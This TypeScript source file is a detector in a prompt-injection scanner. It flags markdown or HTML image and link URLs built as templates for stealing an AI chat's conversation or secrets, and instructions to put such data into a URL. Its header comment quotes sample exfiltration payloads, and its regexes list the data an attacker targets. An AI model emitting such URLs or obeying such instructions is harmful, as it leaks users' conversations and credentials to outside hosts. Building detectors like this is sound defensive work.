// Exfiltration templates: a markdown image (fetched as soon as it is rendered) or link whose URL is a template for
// the conversation or a secret — `![x](https://h/log?q={data})`, `<img src="https://h/?d=[CONVERSATION]">` — and
// plain orders to put the chat or a secret into a URL. Owns the URL shapes and which placeholders name data worth
// stealing. An ordinary badge or image URL has no placeholder and stays quiet.
import type { InjectionFinding, InjectionSeverity } from "../types.js";
import { finding, lexicalSeverity, mentionOf, type ScanContext } from "./context.js";
import { compileShapes, forEachShape } from "./shapes.js";

const URL_MAX = 2_048;
const MD_TARGET = /(!?)\[[^\]\n]{0,300}\]\(\s*<?(https?:\/\/[^\s)]{1,2048})/gi;
const IMG_SRC = /<img\b[^<>]{0,500}?\bsrc\s*=\s*["']?(https?:\/\/[^"'\s<>]{1,2048})/gi;
const REF_DEF = /^[ \t]{0,3}\[[^\]\n]{1,100}\]:\s*<?(https?:\/\/\S{1,2048})/gim;

// Where the agent is to put something: `{data}`, `{{secret}}`, `${TOKEN}`, `<CONVERSATION>`, `[DATA]`, `%7Bx%7D`,
// `INSERT_SUMMARY_HERE`, `$SECRET`, `XXXX`.
const PLACEHOLDER =
  /\{\{?\s*([A-Za-z_][\w. -]{0,40})\s*\}?\}|\$\{([^}]{1,40})\}|%7B(?:%7B)?([\w.-]{1,60})%7D|<([A-Za-z_][\w -]{1,40})>|%3C([\w%-]{1,40})%3E|\[([A-Z_][A-Za-z_ -]{2,40})\]|\b((?:INSERT|YOUR|PUT|ADD|PLACE|REPLACE|APPEND|ENCODED|BASE64|B64)_[A-Z_]{2,40})\b|\$([A-Z_]{3,40})\b|\b(X{4,}|x{6,})\b/;
// A placeholder named for what a thief wants: the conversation, the user, a secret. (`{id}`, `{version}`, `{width}`
// are how API docs and CDNs write paths.)
const SENSITIVE_NAME =
  /data|secret|conversation|chat|history|context|memory|passw|token|key|credential|creds|\benv\b|ssh|summary|prompt|message|payload|exfil|answer|email|pii|previous|session|cookie|private|personal|phone/i;
// An order to put the chat or a secret into a URL, with or without a template: found at the thing to steal (rarer
// than the verbs), the verb checked before it and the URL after it.
const STOLEN = "conversation|chat\\s+history|previous\\s+messages|user['’]?s?\\s+(?:data|messages?|input|question)|secrets?|api\\s+keys?|tokens?|passwords?|credentials?|env|private\\s+key|system\\s+prompt|summary";
const INTO_URL = compileShapes([
  {
    lead: STOLEN,
    shapes: [{ re: new RegExp(`(?:${STOLEN})\\b[^.\\n]{0,80}?\\b(?:to|in|into|as)\\s+(?:the\\s+|a\\s+|this\\s+)?(?:url|link|query(?:\\s+string)?|image(?:\\s+url)?|parameter|src)\\b`, "i") }],
  },
]);
const PUT_VERB_BEFORE = /\b(?:append|add|include|insert|put|encode|embed|attach|concatenate|substitute|replace)\b[^.\n]{0,80}$/i;

type Hit = { image: boolean; url: string; at: number };

function placeholderOf(url: string): { name: string; inQuery: boolean } | undefined {
  const m = PLACEHOLDER.exec(url);
  if (!m) return undefined;
  const name = m.slice(1).find((g) => g !== undefined) ?? "";
  const q = url.search(/[?#]/);
  return { name, inQuery: q !== -1 && m.index > q };
}

export function detectExfilImage(text: string, ctx: ScanContext): InjectionFinding[] {
  const hits: Hit[] = [];
  for (const re of [MD_TARGET, IMG_SRC, REF_DEF]) {
    re.lastIndex = 0;
    for (let m = re.exec(text); m !== null && hits.length < 2_000; m = re.exec(text)) {
      const image = re === IMG_SRC || (re === MD_TARGET && m[1] === "!");
      const url = (re === MD_TARGET ? m[2] : m[1]) ?? "";
      hits.push({ image, url: url.slice(0, URL_MAX), at: m.index });
    }
  }
  let best: InjectionFinding | undefined;
  for (const hit of hits) {
    const ph = placeholderOf(hit.url);
    if (!ph) continue;
    const sensitive = SENSITIVE_NAME.test(ph.name);
    // An image loads by itself: a template anywhere in its query is enough. A link needs a click: only a template that
    // names the data to steal counts.
    const acted = hit.image ? sensitive || ph.inQuery : sensitive && ph.inQuery;
    const mention = mentionOf(text, hit.at, hit.at + hit.url.length);
    let severity: InjectionSeverity = acted ? lexicalSeverity(ctx, { mention, strong: sensitive }) : "info";
    // Security write-ups show these templates inside code blocks; a page that *uses* one doesn't fence it.
    if (ctx.trust === "untrusted" && mention === "quoted") severity = "info";
    const f = finding("exfil-image", severity, text, hit.at, hit.at + Math.min(hit.url.length + 6, 120));
    if (!best || (best.severity === "info" && severity !== "info")) best = f;
    if (severity !== "info") break;
  }
  const out: InjectionFinding[] = best ? [best] : [];
  forEachShape(text, INTO_URL, (_shape, m) => {
    const before = text.slice(Math.max(0, m.index - 100), m.index);
    const verb = PUT_VERB_BEFORE.exec(before);
    if (!verb) return;
    const start = m.index - before.length + verb.index;
    const end = m.index + m[0].length;
    out.push(finding("exfil-image", lexicalSeverity(ctx, { mention: mentionOf(text, start, end), strong: true }), text, start, end));
    return false;
  });
  return out;
}
